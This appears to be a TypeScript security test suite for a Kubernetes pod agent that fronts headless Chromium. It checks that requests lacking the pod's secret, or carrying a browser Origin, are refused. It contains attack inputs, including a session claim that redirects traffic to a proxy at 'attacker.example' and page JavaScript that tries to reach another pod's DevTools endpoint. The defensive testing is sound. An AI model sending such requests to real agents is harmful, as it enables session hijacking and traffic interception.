/**
 * Attacks on the kubernetes driver's pod agent, as the runtime image runs it: the API double's
 * kubelet starts runtime-image/entrypoint.sh with the Pod's own environment, its VENTUS_AGENT_SECRET
 * read from the Pod's Secret, CHROMIUM_SANDBOX=false, real Chromium. The attacker knows where an
 * agent listens (9222 on a pod IP in a cluster) but holds no pod's secret: another tenant's script
 * inside the cluster, a pod whose secret it learnt, a web page. Every route and upgrade is refused;
 * the driver's own calls (the control plane's) go through; nothing the attacker sent had an effect.
 *
 * In a cluster a page's request to another pod's IP is refused twice (the agent's egress check: a
 * private address; the chart's NetworkPolicy: not the control plane). Here every agent shares
 * 127.0.0.1, so the page test exercises the first layer (loopback, refused the same way).
 */
import { once } from 'node:events';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import { PodAgentAccess, agentWebSocket } from '../../core/runtime/agent.client.ts';
import type { Pod } from '../../core/runtime/driver.ts';
import { agentSecretName, podName } from '../../core/runtime/kubernetes/pod-manifest.ts';
import { fetchStorageState, podLiveView } from '../../core/runtime/pod-control.client.ts';
import {
  AGENT_BROWSER_PATH,
  AGENT_SECRET_HEADER,
  AGENT_VNC_PATH,
} from '../../runtime-image/agent/protocol.ts';
import { testAgentAccess } from '../support/agent-access.ts';
import { podId } from '../runtime/driver.conformance.ts';
import {
  NAMESPACE,
  browserVersion,
  kubernetesHarness,
  type KubernetesHarness,
} from '../runtime/kubernetes.harness.ts';

/** The status an upgrade to `url` gets: 101 when the agent lets it in. */
async function upgradeStatus(url: string, headers: Record<string, string>): Promise<number> {
  const ws = new WebSocket(url, { headers, perMessageDeflate: false });
  try {
    return await new Promise<number>((resolve, reject) => {
      ws.once('upgrade', () => resolve(101));
      ws.once('unexpected-response', (_req, res) => resolve(res.statusCode ?? 0));
      ws.once('error', reject);
    });
  } finally {
    ws.terminate();
  }
}

/** A CDP connection opened as the control plane opens it, with one page attached. */
class PageSession {
  private nextId = 1;
  private constructor(
    private readonly ws: WebSocket,
    private readonly sessionId: string,
  ) {}

  static async open(pod: Pod): Promise<PageSession> {
    const { url, headers } = agentWebSocket(testAgentAccess, pod, AGENT_BROWSER_PATH);
    const ws = new WebSocket(url, { headers, perMessageDeflate: false });
    await once(ws, 'open');
    const bootstrap = new PageSession(ws, '');
    const { targetId } = await bootstrap.send<{ targetId: string }>('Target.createTarget', {
      url: 'about:blank',
    });
    const { sessionId } = await bootstrap.send<{ sessionId: string }>('Target.attachToTarget', {
      targetId,
      flatten: true,
    });
    return new PageSession(ws, sessionId);
  }

  get open(): boolean {
    return this.ws.readyState === WebSocket.OPEN;
  }

  async send<T>(method: string, params: object = {}): Promise<T> {
    const id = this.nextId++ + (this.sessionId ? 1_000_000 : 0);
    const reply = new Promise<{ result?: T; error?: { message: string } }>((resolve) => {
      const onMessage = (data: Buffer): void => {
        const message = JSON.parse(data.toString('utf8')) as { id?: number };
        if (message.id !== id) return;
        this.ws.off('message', onMessage);
        resolve(message as { result?: T; error?: { message: string } });
      };
      this.ws.on('message', onMessage);
    });
    this.ws.send(
      JSON.stringify({ id, method, params, ...(this.sessionId && { sessionId: this.sessionId }) }),
    );
    const answer = await reply;
    if (answer.error) throw new Error(`${method}: ${answer.error.message}`);
    return answer.result as T;
  }

  /** Evaluates `expression` in the page (awaiting a promise) and returns its value. */
  async evaluate<T>(expression: string): Promise<T> {
    const { result } = await this.send<{ result: { value: T } }>('Runtime.evaluate', {
      expression,
      awaitPromise: true,
      returnByValue: true,
    });
    return result.value;
  }

  close(): void {
    this.ws.terminate();
  }
}

describe(
  "the kubernetes driver's pod agent under attack (runtime image settings)",
  { timeout: 120_000 },
  () => {
    let h: KubernetesHarness;
    let a: Pod;
    let b: Pod;
    /** A's agent, reached the way a client in the cluster reaches podIP:9222. */
    let base: string;

    beforeAll(async () => {
      h = await kubernetesHarness();
      [a, b] = await Promise.all([
        h.driver.createPod({ id: podId('ATTACKED'), pool: 'k8s', headless: true }),
        h.driver.createPod({ id: podId('ATTACKER'), pool: 'k8s', headless: true }),
      ]);
      base = a.controlUrl;
    }, 120_000);

    afterAll(async () => {
      await h?.cleanup();
    }, 60_000);

    it("lets the driver (the control plane, with the pod's secret) in", async () => {
      expect(await h.driver.isHealthy(a)).toBe(true);
      expect(await browserVersion(testAgentAccess, a)).toMatch(/Chrome/);
      expect(await fetchStorageState(testAgentAccess, a)).toMatchObject({ cookies: [] });
      expect(await podLiveView(testAgentAccess, a)).toEqual({ available: true, interactive: false });
      const { url, headers } = agentWebSocket(testAgentAccess, a, AGENT_VNC_PATH);
      expect(await upgradeStatus(url, headers)).toBe(101);
    });

    it("refuses every route and upgrade without the secret, with another pod's, or with an Origin", async () => {
      // The control plane's connection, opened before the attacks: a claim (POST /session) that got
      // through would cut it.
      const witness = await PageSession.open(a);
      const another = new PodAgentAccess('an attacker key of at least thirty-two characters');
      const attempts: [string, Record<string, string>, number][] = [
        ['no secret', {}, 401],
        ["pod B's secret", testAgentAccess.headers(b.id), 401],
        ["A's id under another key", another.headers(a.id), 401],
        ['an empty secret', { [AGENT_SECRET_HEADER]: '' }, 401],
        [
          "A's secret with an Origin (a browser)",
          { ...testAgentAccess.headers(a.id), origin: 'https://evil.example' },
          403,
        ],
        [
          "A's secret with Origin: null (a sandboxed page)",
          { ...testAgentAccess.headers(a.id), origin: 'null' },
          403,
        ],
      ];
      const routes: [string, string, string?][] = [
        ['GET', '/healthz'],
        ['GET', '/json/version'],
        ['GET', '/storage-state'],
        ['GET', '/live-view'],
        ['GET', '/proxy'],
        ['GET', '/recording'],
        ['POST', '/recording/stop', ''],
        ['POST', '/session', '{"proxy":{"url":"http://attacker.example:8080"},"recording":{"enabled":true}}'],
        ['GET', '/no-such-route'],
      ];
      const outcomes: string[] = [];
      for (const [what, headers, expected] of attempts) {
        for (const [method, route, body] of routes) {
          const res = await fetch(base + route, {
            method,
            headers: { ...headers, ...(body !== undefined && { 'content-type': 'application/json' }) },
            ...(body !== undefined && { body }),
          });
          outcomes.push(`${what}: ${method} ${route} -> ${res.status}`);
          expect(res.status, `${what}: ${method} ${route}`).toBe(expected);
          expect(await res.text(), `${what}: ${method} ${route}`).not.toMatch(/webSocketDebuggerUrl|cookies/);
        }
        for (const path of [AGENT_BROWSER_PATH, `${AGENT_BROWSER_PATH}/guessed-guid`, AGENT_VNC_PATH]) {
          const status = await upgradeStatus(base.replace(/^http/, 'ws') + path, headers);
          outcomes.push(`${what}: WS ${path} -> ${status}`);
          expect(status, `${what}: WS ${path}`).toBe(expected);
        }
      }
      // The secret in the query string (where a page could put it) does not count either.
      const query = `?${AGENT_SECRET_HEADER}=${encodeURIComponent(testAgentAccess.secretFor(a.id))}`;
      expect((await fetch(`${base}/json/version${query}`)).status).toBe(401);
      expect(await upgradeStatus(`${base.replace(/^http/, 'ws')}${AGENT_BROWSER_PATH}${query}`, {})).toBe(
        401,
      );
      // Nothing the attacker sent took effect: no claim (the witness is connected), no upstream proxy.
      expect(witness.open).toBe(true);
      expect(await witness.evaluate<number>('1 + 1')).toBe(2);
      const proxy = await fetch(`${base}/proxy`, { headers: testAgentAccess.headers(a.id) });
      expect(await proxy.json()).toMatchObject({ mode: 'direct' });
      witness.close();
      expect(outcomes.length).toBe(attempts.length * (routes.length + 3));
    });

    it('keeps the secret out of the Pod object: a reader of Pods learns nothing', () => {
      for (const pod of [a, b]) {
        const object = h.double.store.get('pods', NAMESPACE, podName(pod.id))!;
        expect(JSON.stringify(object)).not.toContain(testAgentAccess.secretFor(pod.id));
        expect(h.double.store.get('secrets', NAMESPACE, agentSecretName(pod.id))).toBeDefined();
      }
    });

    it("refuses a page in pod B that goes for pod A's agent (or its own)", async () => {
      const witness = await PageSession.open(a);
      const page = await PageSession.open(b);
      try {
        for (const target of [a, b]) {
          const port = new URL(target.controlUrl).port;
          const agent = `127.0.0.1:${port}`;
          // Plain page JavaScript: read CDP's address, claim the pod with a no-cors POST, open DevTools.
          const attempts = await page.evaluate<Record<string, string>>(`(async () => {
          const out = {};
          try { const r = await fetch('http://${agent}/json/version'); out.read = 'read ' + r.status + ' ' + (await r.text()); }
          catch (e) { out.read = 'failed'; }
          try {
            await fetch('http://${agent}/session', { method: 'POST', mode: 'no-cors', body: '{"proxy":{"url":"http://attacker.example:1"}}' });
            out.claim = 'sent';
          } catch (e) { out.claim = 'failed'; }
          out.devtools = await new Promise((resolve) => {
            const ws = new WebSocket('ws://${agent}${AGENT_BROWSER_PATH}');
            ws.onopen = () => resolve('open');
            ws.onerror = () => resolve('failed');
          });
          return out;
        })()`);
          expect(attempts.read).toBe('failed');
          expect(attempts.devtools).toBe('failed');
          // A navigation shows why: the agent's egress check refused the address before any agent saw it.
          await page.send('Page.navigate', { url: `http://${agent}/json/version` });
          const text = await page.evaluate<string>(
            `new Promise((resolve) => { const poll = () => document.body && document.body.innerText ? resolve(document.body.innerText) : setTimeout(poll, 50); poll(); })`,
          );
          expect(text).toMatch(/may not reach/);
          expect(text).not.toContain('webSocketDebuggerUrl');
        }
        // A was never claimed: its control-plane connection is intact, its traffic not redirected.
        expect(witness.open).toBe(true);
        const proxy = await fetch(`${base}/proxy`, { headers: testAgentAccess.headers(a.id) });
        expect(await proxy.json()).toMatchObject({ mode: 'direct' });
      } finally {
        page.close();
        witness.close();
      }
    });
  },
);
